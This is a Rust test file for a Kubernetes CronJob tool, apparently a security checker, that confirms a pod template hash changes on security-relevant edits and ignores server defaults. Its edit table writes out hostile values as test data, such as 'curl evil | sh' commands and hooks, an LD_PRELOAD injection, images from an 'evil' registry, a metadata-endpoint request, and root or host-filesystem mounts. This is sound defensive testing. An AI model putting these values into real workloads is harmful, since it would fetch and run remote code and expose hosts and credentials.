//! The security-relevant template hash (SPEC 3.5): a manifest and the
//! object a real API server serves for it hash alike (fixture pairs read
//! back from a v1.36 kube-apiserver), every security-relevant change
//! changes it, and spelling out a server default does not.

use cronwarden::engine::normalize::template_hash;
use k8s_openapi::api::batch::v1::CronJob;
use k8s_openapi::api::core::v1::PodSpec;
use proptest::prelude::*;
use serde_json::{Value, json};

fn fixture(name: &str) -> Value {
    let path = format!("{}/tests/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap();
    let cj: CronJob = serde_saphyr::from_str(&text).unwrap();
    serde_json::to_value(cj).unwrap()
}

fn pod_value(cj: &Value) -> Value {
    cj["spec"]["jobTemplate"]["spec"]["template"]["spec"].clone()
}

fn hash(pod: &Value) -> String {
    let p: PodSpec = serde_json::from_value(pod.clone()).unwrap();
    template_hash(Some(&p))
}

const PAIRS: &[(&str, &str)] = &[
    ("cronjob-manifest.yaml", "cronjob-as-served.yaml"),
    ("cronjob-rich-manifest.yaml", "cronjob-rich-as-served.yaml"),
    ("cronjob-host-manifest.yaml", "cronjob-host-as-served.yaml"),
    (
        "cronjob-quantities-manifest.yaml",
        "cronjob-quantities-as-served.yaml",
    ),
    (
        "cronjob-image-volume-manifest.yaml",
        "cronjob-image-volume-as-served.yaml",
    ),
];

#[test]
fn manifest_and_served_object_hash_alike() {
    let mut seen = Vec::new();
    for (manifest, served) in PAIRS {
        let a = hash(&pod_value(&fixture(manifest)));
        let b = hash(&pod_value(&fixture(served)));
        assert_eq!(a, b, "{manifest} vs {served}");
        assert!(a.starts_with("sha256:") && a.len() == 71, "{a}");
        seen.push(a);
    }
    seen.sort();
    seen.dedup();
    assert_eq!(seen.len(), PAIRS.len(), "different templates hash apart");
}

#[test]
fn no_pod_spec_hashes_consistently() {
    assert_eq!(template_hash(None), template_hash(None));
    assert_ne!(
        template_hash(None),
        template_hash(Some(&PodSpec::default()))
    );
}

/// JSON path steps into the pod spec of the rich served fixture.
fn at<'a>(v: &'a mut Value, path: &str) -> &'a mut Value {
    path.split('.')
        .fold(v, |v, step| match step.parse::<usize>() {
            Ok(i) => &mut v[i],
            Err(_) => &mut v[step],
        })
}

type Edit = fn(&mut Value);

/// Each edit changes what the pod runs, as whom, or where.
const CHANGES: &[(&str, Edit)] = &[
    ("env value", |p| {
        *at(p, "containers.0.env.1.value") = json!("s3://attacker")
    }),
    ("env added", |p| {
        at(p, "containers.1")["env"] = json!([{"name": "LD_PRELOAD", "value": "/tmp/x.so"}])
    }),
    ("env valueFrom secret key", |p| {
        *at(p, "containers.0.env.4.valueFrom.secretKeyRef.key") = json!("root-password")
    }),
    ("env valueFrom secret name", |p| {
        *at(p, "containers.0.env.4.valueFrom.secretKeyRef.name") = json!("admin")
    }),
    ("env fieldRef path", |p| {
        *at(p, "containers.0.env.2.valueFrom.fieldRef.fieldPath") = json!("metadata.namespace")
    }),
    ("env resourceFieldRef divisor", |p| {
        *at(p, "containers.0.env.3.valueFrom.resourceFieldRef.divisor") = json!("1Mi")
    }),
    ("env order", |p| {
        at(p, "containers.0.env").as_array_mut().unwrap().swap(0, 1)
    }),
    ("envFrom source", |p| {
        *at(p, "containers.0.envFrom.0.configMapRef.name") = json!("other-env")
    }),
    ("envFrom prefix", |p| {
        *at(p, "containers.0.envFrom.1.prefix") = json!("AWS_")
    }),
    ("envFrom order", |p| {
        at(p, "containers.0.envFrom")
            .as_array_mut()
            .unwrap()
            .swap(0, 1)
    }),
    ("image", |p| {
        *at(p, "containers.1.image") = json!("ghcr.io/evil/audit:3.0")
    }),
    ("command", |p| {
        *at(p, "containers.0.command") = json!(["/bin/sh", "-c", "curl evil | sh"])
    }),
    ("args", |p| *at(p, "containers.0.args.0") = json!("--all")),
    ("lifecycle postStart exec", |p| {
        *at(p, "containers.0.lifecycle.postStart.exec.command.2") = json!("curl evil | sh")
    }),
    ("lifecycle postStart added", |p| {
        at(p, "containers.1.lifecycle")["postStart"] =
            json!({"exec": {"command": ["/bin/sh", "-c", "id"]}})
    }),
    ("lifecycle preStop httpGet host", |p| {
        at(p, "containers.0.lifecycle.preStop.httpGet")["host"] = json!("169.254.169.254")
    }),
    ("lifecycle preStop httpGet scheme", |p| {
        *at(p, "containers.0.lifecycle.preStop.httpGet.scheme") = json!("HTTPS")
    }),
    ("lifecycle preStop sleep", |p| {
        *at(p, "containers.1.lifecycle.preStop.sleep.seconds") = json!(600)
    }),
    ("probe exec command", |p| {
        *at(p, "containers.1.livenessProbe.exec.command") = json!(["/bin/sh", "-c", "curl evil"])
    }),
    ("probe httpGet path", |p| {
        *at(p, "containers.0.livenessProbe.httpGet.path") = json!("/admin")
    }),
    ("probe timing", |p| {
        *at(p, "containers.0.livenessProbe.periodSeconds") = json!(1)
    }),
    ("probe timeout", |p| {
        *at(p, "containers.1.livenessProbe.timeoutSeconds") = json!(30)
    }),
    ("probe initial delay", |p| {
        *at(p, "containers.0.readinessProbe.initialDelaySeconds") = json!(0)
    }),
    ("probe grpc service", |p| {
        *at(p, "containers.0.startupProbe.grpc.service") = json!("admin")
    }),
    ("probe handler kind", |p| {
        let probe = at(p, "containers.0.readinessProbe")
            .as_object_mut()
            .unwrap();
        probe.remove("tcpSocket");
        probe.insert("exec".into(), json!({"command": ["/bin/true"]}));
    }),
    ("volumeMount added", |p| {
        at(p, "containers.1")["volumeMounts"] = json!([{"name": "host-logs", "mountPath": "/h"}])
    }),
    ("volumeMount readOnly dropped", |p| {
        *at(p, "containers.0.volumeMounts.0.readOnly") = json!(false)
    }),
    ("container securityContext", |p| {
        *at(p, "containers.0.securityContext.allowPrivilegeEscalation") = json!(true)
    }),
    ("container privileged false", |p| {
        at(p, "containers.1")["securityContext"] = json!({"privileged": false})
    }),
    ("container renamed", |p| {
        *at(p, "containers.1.name") = json!("audit")
    }),
    ("initContainer order", |p| {
        at(p, "initContainers").as_array_mut().unwrap().swap(0, 1)
    }),
    ("initContainer command", |p| {
        *at(p, "initContainers.0.command.1") = json!("evil:1")
    }),
    ("initContainer added", |p| {
        at(p, "initContainers")
            .as_array_mut()
            .unwrap()
            .push(json!({"name": "x", "image": "busybox", "command": ["sh"]}))
    }),
    ("serviceAccountName", |p| {
        p["serviceAccountName"] = json!("admin");
        p["serviceAccount"] = json!("admin");
    }),
    ("automountServiceAccountToken", |p| {
        p["automountServiceAccountToken"] = json!(true)
    }),
    ("hostNetwork", |p| p["hostNetwork"] = json!(true)),
    ("hostPID", |p| p["hostPID"] = json!(true)),
    ("hostIPC", |p| p["hostIPC"] = json!(true)),
    ("hostUsers", |p| p["hostUsers"] = json!(true)),
    ("shareProcessNamespace", |p| {
        p["shareProcessNamespace"] = json!(false)
    }),
    ("nodeName", |p| p["nodeName"] = json!("control-plane-1")),
    ("nodeSelector value", |p| {
        p["nodeSelector"]["kubernetes.io/os"] = json!("windows")
    }),
    ("nodeSelector empty value", |p| {
        p["nodeSelector"]["node-role.kubernetes.io/control-plane"] = json!("")
    }),
    ("tolerations", |p| {
        at(p, "tolerations")
            .as_array_mut()
            .unwrap()
            .push(json!({"operator": "Exists"}))
    }),
    ("toleration effect", |p| {
        *at(p, "tolerations.0.effect") = json!("NoExecute")
    }),
    ("affinity", |p| {
        *at(
            p,
            "affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms.0.matchExpressions.0.key",
        ) = json!("node-role.kubernetes.io/control-plane")
    }),
    ("runtimeClassName", |p| {
        p["runtimeClassName"] = json!("runc")
    }),
    ("hostAliases", |p| {
        *at(p, "hostAliases.0.ip") = json!("203.0.113.9")
    }),
    ("imagePullSecrets", |p| {
        *at(p, "imagePullSecrets.0.name") = json!("other")
    }),
    ("pod securityContext", |p| {
        *at(p, "securityContext.runAsUser") = json!(0)
    }),
    ("volume source kind", |p| {
        let v = at(p, "volumes.4").as_object_mut().unwrap();
        assert_eq!(v["name"], "keys");
        v.remove("emptyDir");
        v.insert("hostPath".into(), json!({"path": "/etc"}));
    }),
    ("volume hostPath path", |p| {
        *at(p, "volumes.6.hostPath.path") = json!("/")
    }),
    ("volume secret name", |p| {
        *at(p, "volumes.1.secret.secretName") = json!("admin-creds")
    }),
    ("volume defaultMode", |p| {
        *at(p, "volumes.0.configMap.defaultMode") = json!(511)
    }),
    ("projected token audience", |p| {
        *at(
            p,
            "volumes.2.projected.sources.0.serviceAccountToken.audience",
        ) = json!("vault")
    }),
    ("projected token expiry", |p| {
        *at(
            p,
            "volumes.2.projected.sources.0.serviceAccountToken.expirationSeconds",
        ) = json!(86400)
    }),
    ("downwardAPI item", |p| {
        *at(p, "volumes.3.downwardAPI.items.0.fieldRef.fieldPath") = json!("metadata.annotations")
    }),
    ("emptyDir sizeLimit", |p| {
        at(p, "volumes.5.emptyDir")["sizeLimit"] = json!("1Gi")
    }),
];

#[test]
fn every_security_relevant_change_changes_the_hash() {
    let served = pod_value(&fixture("cronjob-rich-as-served.yaml"));
    let base = hash(&served);
    let mut same = Vec::new();
    for (what, edit) in CHANGES {
        let mut p = served.clone();
        edit(&mut p);
        assert_ne!(p, served, "{what}: the edit did nothing");
        if hash(&p) == base {
            same.push(*what);
        }
    }
    assert!(same.is_empty(), "hash unchanged by {same:?}");
}

/// Spelling out what the API server would write, or reordering what has no
/// order, leaves the hash alone.
const SAME: &[(&str, Edit)] = &[
    ("container order", |p| {
        at(p, "containers").as_array_mut().unwrap().swap(0, 1)
    }),
    ("volume order", |p| {
        at(p, "volumes").as_array_mut().unwrap().reverse()
    }),
    ("serviceAccount alias only", |p| {
        p.as_object_mut().unwrap().remove("serviceAccountName");
    }),
    ("server-only fields", |p| {
        p["dnsPolicy"] = json!("Default");
        p["schedulerName"] = json!("other");
        p["terminationGracePeriodSeconds"] = json!(5);
        *at(p, "containers.0.imagePullPolicy") = json!("Always");
        *at(p, "containers.0.terminationMessagePolicy") = json!("FallbackToLogsOnError");
        *at(p, "containers.0.resources") = json!({"limits": {"cpu": "4"}});
    }),
    ("defaults removed", |p| {
        for probe in ["livenessProbe", "readinessProbe", "startupProbe"] {
            let pr = at(p, &format!("containers.0.{probe}"))
                .as_object_mut()
                .unwrap();
            for k in [
                "timeoutSeconds",
                "periodSeconds",
                "successThreshold",
                "failureThreshold",
            ] {
                pr.remove(k);
            }
        }
        let h = at(p, "containers.0.livenessProbe.httpGet")
            .as_object_mut()
            .unwrap();
        h.remove("scheme");
        h.remove("path");
        at(p, "containers.0.startupProbe.grpc")
            .as_object_mut()
            .unwrap()
            .remove("service");
        at(p, "containers.0.env.2.valueFrom.fieldRef")
            .as_object_mut()
            .unwrap()
            .remove("apiVersion");
        at(p, "containers.0.env.3.valueFrom.resourceFieldRef")
            .as_object_mut()
            .unwrap()
            .remove("divisor");
        for (i, src) in [
            (0, "configMap"),
            (1, "secret"),
            (2, "projected"),
            (3, "downwardAPI"),
        ] {
            at(p, &format!("volumes.{i}.{src}"))
                .as_object_mut()
                .unwrap()
                .remove("defaultMode");
        }
        at(p, "volumes.2.projected.sources.0.serviceAccountToken")
            .as_object_mut()
            .unwrap()
            .remove("expirationSeconds");
        at(p, "volumes.6.hostPath")
            .as_object_mut()
            .unwrap()
            .remove("type");
    }),
    ("defaults spelled out", |p| {
        *at(p, "containers.1.livenessProbe.initialDelaySeconds") = json!(0);
        *at(p, "containers.0.volumeMounts.1.readOnly") = json!(false);
        *at(p, "volumes.3.downwardAPI.items.1.resourceFieldRef.divisor") = json!("0");
        p["hostNetwork"] = json!(false);
        p["hostPID"] = json!(false);
        p["hostIPC"] = json!(false);
        at(p, "containers.1")["securityContext"] = json!({});
        at(p, "containers.1")["envFrom"] = json!([]);
        at(p, "initContainers.0")["args"] = json!([]);
        *at(p, "containers.0.envFrom.0.prefix") = json!("");
    }),
    ("quantity spelling", |p| {
        at(p, "volumes.5.emptyDir")["sizeLimit"] = json!("1Gi");
    }),
];

#[test]
fn defaults_and_order_without_meaning_leave_the_hash() {
    let served = pod_value(&fixture("cronjob-rich-as-served.yaml"));
    let base = hash(&served);
    for (what, edit) in SAME {
        let mut p = served.clone();
        edit(&mut p);
        assert_ne!(p, served, "{what}: the edit did nothing");
        if *what == "quantity spelling" {
            // Same value, another spelling: equal to each other, not base.
            let mut q = served.clone();
            at(&mut q, "volumes.5.emptyDir")["sizeLimit"] = json!("1024Mi");
            assert_eq!(hash(&p), hash(&q), "{what}");
            continue;
        }
        assert_eq!(hash(&p), base, "{what}");
    }
}

#[test]
fn host_namespaces_and_semantic_pod_defaults() {
    let served = pod_value(&fixture("cronjob-host-as-served.yaml"));
    let base = hash(&served);
    for key in ["hostNetwork", "hostPID", "hostIPC"] {
        let mut p = served.clone();
        p[key] = json!(false);
        assert_ne!(hash(&p), base, "{key}");
    }
    // Unset hostUsers is true; unset shareProcessNamespace is false.
    let mut p = served.clone();
    p["hostUsers"] = json!(true);
    p["shareProcessNamespace"] = json!(false);
    assert_eq!(hash(&p), base);
    // Legacy volume defaults the API server writes.
    let mut p = served.clone();
    for (i, src, k) in [
        (1, "ephemeral", "volumeClaimTemplate.spec.volumeMode"),
        (2, "iscsi", "iscsiInterface"),
        (3, "azureDisk", "cachingMode"),
        (3, "azureDisk", "fsType"),
        (3, "azureDisk", "kind"),
        (3, "azureDisk", "readOnly"),
        (4, "rbd", "pool"),
        (4, "rbd", "user"),
        (4, "rbd", "keyring"),
    ] {
        let (parent, leaf) = match k.rsplit_once('.') {
            Some((parent, leaf)) => (format!("volumes.{i}.{src}.{parent}"), leaf),
            None => (format!("volumes.{i}.{src}"), k),
        };
        assert!(
            at(&mut p, &parent)
                .as_object_mut()
                .unwrap()
                .remove(leaf)
                .is_some(),
            "{parent}.{leaf}"
        );
    }
    assert_eq!(hash(&p), base);
    let mut p = served.clone();
    *at(&mut p, "volumes.4.rbd.user") = json!("root");
    assert_ne!(hash(&p), base);
}

proptest! {
    /// Odd quantities, names and values hash without panicking, and
    /// deterministically.
    #[test]
    fn odd_input_never_panics(
        quantity in "[-+0-9.eEkKMGTPinum ]{0,24}",
        text in "\\PC{0,12}",
        n in any::<i32>(),
    ) {
        let pod = json!({
            "containers": [{
                "name": text,
                "env": [
                    {"name": text, "value": text},
                    {"name": "Q", "valueFrom": {"resourceFieldRef": {"resource": "limits.cpu", "divisor": quantity}}},
                ],
                "livenessProbe": {"exec": {"command": [text]}, "periodSeconds": n, "timeoutSeconds": n},
            }],
            "nodeSelector": {text.clone(): text},
            "volumes": [
                {"name": "e", "emptyDir": {"sizeLimit": quantity}},
                {"name": "c", "configMap": {"name": text, "defaultMode": n}},
            ],
        });
        let p: PodSpec = serde_json::from_value(pod).unwrap();
        prop_assert_eq!(template_hash(Some(&p)), template_hash(Some(&p)));
    }
}

#[test]
fn image_volume_pull_policy_defaults_from_the_tag() {
    let served = pod_value(&fixture("cronjob-image-volume-as-served.yaml"));
    let base = hash(&served);
    // Spelled out or left to the server: the same.
    let mut p = served.clone();
    for i in 0..2 {
        at(&mut p, &format!("volumes.{i}.image"))
            .as_object_mut()
            .unwrap()
            .remove("pullPolicy");
    }
    assert_eq!(hash(&p), base);
    for (what, edit) in [
        (
            "pinned volume pulls always",
            ("volumes.0.image.pullPolicy", "Always"),
        ),
        (
            "latest volume never pulls",
            ("volumes.1.image.pullPolicy", "Never"),
        ),
        (
            "other reference",
            ("volumes.0.image.reference", "ghcr.io/evil/tools:1.0"),
        ),
    ] {
        let mut p = served.clone();
        *at(&mut p, edit.0) = json!(edit.1);
        assert_ne!(hash(&p), base, "{what}");
    }
}
